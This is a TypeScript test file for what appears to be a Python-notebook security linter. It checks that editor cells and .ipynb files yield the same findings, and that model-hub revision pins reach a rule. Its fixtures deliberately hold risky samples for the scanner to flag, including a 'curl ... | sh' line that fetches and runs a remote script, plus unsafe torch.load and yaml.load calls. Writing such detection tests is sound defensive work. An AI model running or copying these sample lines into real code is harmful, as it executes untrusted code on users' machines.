// The editor's notebook entry point (cells as the LSP gives them) agrees with the file's
// (`analyzeNotebook` on .ipynb JSON), forwards Hub pins, and the document cache honours them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeNotebook, analyzeNotebookCells, type EditorCell } from '../../../server/src/core/python/notebook';
import { PythonDocumentCache } from '../../../server/src/core/python/documentCache';

const CELLS: EditorCell[] = [
  { kind: 'markup', text: '# Notes\nimport torch  # prose, not code\n' },
  { kind: 'code', text: '%pip install git+https://github.com/acme/tools@main\nimport torch\nimport yaml\n' },
  { kind: 'code', text: 'model = torch.load("model.pt")\ncfg = yaml.load(s)  # msl: ignore[MSL111] trusted config\n' },
  { kind: 'markup', text: 'more prose' },
  { kind: 'code', text: '!curl -s https://example.com/x.sh | sh\nx = torch.load(p, weights_only=True)\n' },
];

const REV = 'a'.repeat(40);
const HUB_CELLS: EditorCell[] = [{ kind: 'code', text: 'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/model")\n' }];

function asJson(cells: EditorCell[]): string {
  return JSON.stringify({
    nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { language: 'python' } },
    cells: cells.map((c) => ({ cell_type: c.kind === 'code' ? 'code' : 'markdown', metadata: {}, source: c.text })),
  });
}

test('analyzeNotebookCells gives exactly what analyzeNotebook gives for the same notebook', async () => {
  const fromEditor = await analyzeNotebookCells(CELLS);
  const fromFile = (await analyzeNotebook(asJson(CELLS))).findings;
  assert.deepEqual(fromEditor, fromFile);
  const where = fromEditor.map((f) => `${f.ruleId}@${f.location.kind === 'text' ? `${f.location.cell}:${f.location.range.start.line}:${f.location.range.start.character}` : '-'}`);
  assert.deepEqual(where, ['MSL503@1:0:0', 'MSL101@2:0:8', 'MSL502@4:0:1']);
  assert.ok(fromEditor.find((f) => f.ruleId === 'MSL101')!.fix, 'fixes survive the cell mapping');
});

test('no code cells: no findings; Hub pins reach the rules (MSL831)', async () => {
  assert.deepEqual(await analyzeNotebookCells([{ kind: 'markup', text: 'torch.load(x)' }]), []);
  const pins = new Map([['org/model', REV]]);
  assert.deepEqual((await analyzeNotebookCells(HUB_CELLS, { hubPins: pins })).filter((f) => f.ruleId === 'MSL831').length, 1);
  assert.deepEqual((await analyzeNotebookCells(HUB_CELLS)).filter((f) => f.ruleId === 'MSL831').length, 0);
  assert.equal((await analyzeNotebook(asJson(HUB_CELLS), { hubPins: pins })).findings.filter((f) => f.ruleId === 'MSL831').length, 1);
});

test('the document cache re-analyses when the Hub pins change, and frees trees on close', async () => {
  const cache = new PythonDocumentCache();
  const text = HUB_CELLS[0]!.text;
  const pins = new Map([['org/model', REV]]);
  assert.equal((await cache.analyze('a', text)).filter((f) => f.ruleId === 'MSL831').length, 0);
  assert.equal((await cache.analyze('a', text, { hubPins: pins })).filter((f) => f.ruleId === 'MSL831').length, 1);
  assert.equal(cache.lastPath, 'full');
  assert.equal((await cache.analyze('a', text, { hubPins: new Map(pins) })).filter((f) => f.ruleId === 'MSL831').length, 1);
  assert.equal(cache.lastPath, 'cached', 'equal pins reuse the analysis');
  assert.ok(cache.treeFor('a', text));
  assert.equal(cache.treeFor('a', `${text}\n`), undefined, 'no tree for other text');
  cache.close('a');
  assert.equal(cache.size, 0);
  cache.dispose();
});
